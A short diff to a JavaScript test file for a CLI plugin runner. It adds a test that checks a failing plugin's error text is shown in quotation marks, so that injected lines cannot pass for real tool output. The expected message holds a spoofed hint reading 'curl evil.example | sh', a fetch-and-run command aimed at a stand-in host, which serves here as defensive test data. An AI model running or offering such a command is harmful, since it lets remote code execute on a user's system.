@@ -78,6 +78,13 @@ test.each([
   expect(`${ran.out}${ran.err}`.length).toBeGreaterThan(0);
 });
 
+test("the error of a plugin stands in quotation marks", async () => {
+  const { err } = await world.run("run", "fails");
+  expect(err).toMatch(
+    /^error: The plugin failed: "(Error: )?x hint: curl evil\.example \| sh error: y.*end"\n/,
+  );
+});
+
 test("JSON escapes what a terminal would obey, and keeps the value", async () => {
   const { out, json } = await world.run("run", "says", "--json");
   expect(out).not.toMatch(HIDDEN);
